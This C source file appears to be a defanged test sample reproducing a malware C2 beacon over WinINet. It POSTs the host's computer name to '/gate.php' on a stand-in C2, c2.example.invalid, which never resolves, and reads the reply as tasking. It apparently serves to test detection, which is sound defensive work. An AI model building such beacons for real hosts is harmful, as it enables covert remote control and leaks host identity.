/* http_beacon — a bot's check-in over WinINet: InternetOpen with its own User-Agent,
 * InternetConnect to the C2, an HTTP POST carrying a host identifier, then a read of the
 * reply (the "tasking"), the pattern of most HTTP RATs and loaders (ATT&CK T1071.001).
 *
 * Harmless: the C2 is c2.example.invalid, and .invalid never resolves (RFC 6761), so on a real
 * system the request fails at DNS. The sample records the outcome in a marker file. */
#include "sample.h"
#include <wininet.h>

static const char kUserAgent[] = "mamori-beacon/1.0";
static const char kC2Host[] = "c2.example.invalid";

int main(void) {
  char computer[MAX_COMPUTERNAME_LENGTH + 1] = "unknown", body[128];
  DWORD n = sizeof computer;
  GetComputerNameA(computer, &n);
  lstrcpyA(body, "id=");
  lstrcatA(body, computer);
  lstrcatA(body, "&v=1.0&os=win");

  HINTERNET inet = InternetOpenA(kUserAgent, INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
  if (!inet) return 1;
  HINTERNET conn = InternetConnectA(inet, kC2Host, INTERNET_DEFAULT_HTTP_PORT, NULL, NULL,
                                    INTERNET_SERVICE_HTTP, 0, 0);
  const char *result = "http_beacon: no connection\r\n";
  if (conn) {
    static const char *accept[] = {"*/*", NULL};
    HINTERNET req = HttpOpenRequestA(conn, "POST", "/gate.php", NULL, NULL, accept,
                                     INTERNET_FLAG_NO_CACHE_WRITE | INTERNET_FLAG_RELOAD, 0);
    if (req) {
      static const char headers[] = "Content-Type: application/x-www-form-urlencoded\r\n";
      if (HttpSendRequestA(req, headers, (DWORD)(sizeof headers - 1), body,
                           (DWORD)lstrlenA(body))) {
        char reply[256];
        DWORD got = 0;
        InternetReadFile(req, reply, sizeof reply, &got);
        result = "http_beacon: beacon sent\r\n";
      } else {
        result = "http_beacon: HttpSendRequestA failed\r\n";
      }
      InternetCloseHandle(req);
    }
    InternetCloseHandle(conn);
  }
  InternetCloseHandle(inet);
  sample_marker("http_beacon.txt", result);
  return 0;
}
